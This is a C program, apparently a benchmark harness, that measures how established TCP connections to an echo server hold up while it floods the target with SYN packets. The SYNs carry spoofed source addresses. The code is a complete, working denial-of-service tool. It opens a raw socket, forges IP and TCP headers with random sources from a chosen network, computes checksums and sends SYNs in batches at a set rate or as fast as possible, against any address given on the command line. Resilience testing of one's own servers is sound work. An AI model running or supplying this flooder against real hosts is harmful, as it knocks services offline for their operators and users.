/*
 * A SYN flood from addresses that nobody has, and what becomes of connections that were there before it.
 *
 *     synflood ADDRESS PORT SECONDS SYNS_PER_SECOND SOURCES
 *
 * Opens connections to what pingpong answers with and keeps one question of 64 bytes on its way over each: for
 * SECONDS in peace; then a second process begins to send SYNs (0: as fast as it can) from addresses in SOURCES, a
 * network of 2^14; and after the time it takes them to fill a table, for SECONDS more.  Prints questions answered a
 * second in peace and in the flood, and SYNs sent a second.  A connection that breaks is an error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	CONNECTIONS = 16,
	BYTES = 64,
	BATCH = 64,			/* SYNs a system call */
	SOURCE_BITS = 14,
	BETWEEN_BURSTS_NS = 1000000,	/* a fixed rate goes out in bursts this far apart */
	PATIENCE_MS = 5000,
};

static const double FILLING_SECONDS = 1;

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

static void die(const char *tried)
{
	fprintf(stderr, "synflood: cannot %s: %s\n", tried, strerror(errno));
	exit(1);
}

static double seconds_now(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

static uint64_t next_random(void)	/* xorshift64 */
{
	static uint64_t state = 0x9E3779B97F4A7C15;

	state ^= state << 13;
	state ^= state >> 7;
	return state ^= state << 17;
}

static uint32_t words(const void *from, int bytes)
{
	const uint16_t *word = from;
	uint32_t sum = 0;

	for (; bytes > 0; bytes -= 2)
		sum += *word++;
	return sum;
}

static void spoof(struct syn *syn, uint32_t sources)
{
	uint64_t random = next_random();
	uint32_t sum;

	syn->ip.saddr = htonl(sources | (random & ((1 << SOURCE_BITS) - 1)));
	syn->tcp.source = htons(1024 + (random >> 16) % 64000);
	syn->tcp.seq = (uint32_t)(random >> 32);
	syn->tcp.check = 0;
	sum = words(&syn->ip.saddr, 8) + words(&syn->tcp, sizeof syn->tcp) + htons(IPPROTO_TCP) + htons(sizeof syn->tcp);
	sum = (sum & 0xffff) + (sum >> 16);
	syn->tcp.check = ~((sum & 0xffff) + (sum >> 16));
}

/* Send SYNs until killed, counting them in *sent. */
static void flood(const struct sockaddr_in *to, double rate, uint32_t sources, volatile uint64_t *sent)
{
	static const struct timespec pause = {.tv_nsec = BETWEEN_BURSTS_NS};
	static struct syn syns[BATCH];
	static struct iovec places[BATCH];
	static struct mmsghdr messages[BATCH];
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), count;
	double start = seconds_now();

	if (fd < 0)
		die("open a raw socket");
	for (int i = 0; i < BATCH; i++) {
		syns[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
					    .daddr = to->sin_addr.s_addr};
		syns[i].tcp = (struct tcphdr){.dest = to->sin_port, .doff = 5, .syn = 1, .window = htons(64240)};
		places[i] = (struct iovec){&syns[i], sizeof syns[i]};
		messages[i].msg_hdr = (struct msghdr){.msg_name = (void *)to, .msg_namelen = sizeof *to,
						      .msg_iov = &places[i], .msg_iovlen = 1};
	}
	prctl(PR_SET_TIMERSLACK, 1000UL);
	for (;;) {
		while (rate == 0 || *sent < (seconds_now() - start) * rate) {
			for (int i = 0; i < BATCH; i++)
				spoof(&syns[i], sources);
			count = sendmmsg(fd, messages, BATCH, 0);
			if (count < 0 && errno != ENOBUFS && errno != EAGAIN)
				die("send SYNs");
			if (count > 0)
				*sent += count;
		}
		nanosleep(&pause, NULL);
	}
}

static void ask(int fd)
{
	static const char question[BYTES];

	if (send(fd, question, BYTES, MSG_NOSIGNAL) != BYTES)
		die("ask");
}

/* Ask for so long; return questions answered a second. */
static double answered(struct pollfd *connections, double seconds)
{
	static int have[CONNECTIONS];
	double start = seconds_now(), elapsed = 0;
	uint64_t answers = 0;
	char answer[BYTES];

	while (elapsed < seconds) {
		if (poll(connections, CONNECTIONS, PATIENCE_MS) <= 0) {
			errno = ETIMEDOUT;
			die("hear any answer");
		}
		for (int i = 0; i < CONNECTIONS; i++) {
			ssize_t got;

			if (!connections[i].revents)
				continue;
			got = recv(connections[i].fd, answer, BYTES - have[i], 0);
			if (got <= 0) {
				errno = got ? errno : ECONNRESET;
				die("keep a connection");
			}
			have[i] += got;
			if (have[i] == BYTES) {
				have[i] = 0;
				answers++;
				ask(connections[i].fd);
			}
		}
		elapsed = seconds_now() - start;
	}
	return answers / elapsed;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct pollfd connections[CONNECTIONS];
	struct in_addr sources;
	double seconds, peace, under, start;
	volatile uint64_t *sent;
	uint64_t before;
	pid_t child;
	int on = 1;

	if (argc != 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || inet_pton(AF_INET, argv[5], &sources) != 1) {
		fprintf(stderr, "usage: synflood ADDRESS PORT SECONDS SYNS_PER_SECOND SOURCES\n");
		return 2;
	}
	to.sin_port = htons(atoi(argv[2]));
	seconds = atof(argv[3]);
	sent = mmap(NULL, sizeof *sent, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sent == MAP_FAILED)
		die("share memory");
	for (int i = 0; i < CONNECTIONS; i++) {
		connections[i] = (struct pollfd){.fd = socket(AF_INET, SOCK_STREAM, 0), .events = POLLIN};
		if (connections[i].fd < 0 || connect(connections[i].fd, (struct sockaddr *)&to, sizeof to))
			die("connect");
		setsockopt(connections[i].fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
		ask(connections[i].fd);
	}
	answered(connections, seconds / 5);		/* caches are cold */
	peace = answered(connections, seconds);
	child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		flood(&to, atof(argv[4]), ntohl(sources.s_addr), sent);
	}
	answered(connections, FILLING_SECONDS);
	before = *sent;
	start = seconds_now();
	under = answered(connections, seconds);
	printf("{\"peace_per_second\": %.1f, \"flood_per_second\": %.1f, \"syns_per_second\": %.1f, \"syns\": %llu}\n",
	       peace, under, (*sent - before) / (seconds_now() - start), (unsigned long long)*sent);
	kill(child, SIGKILL);
	return 0;
}
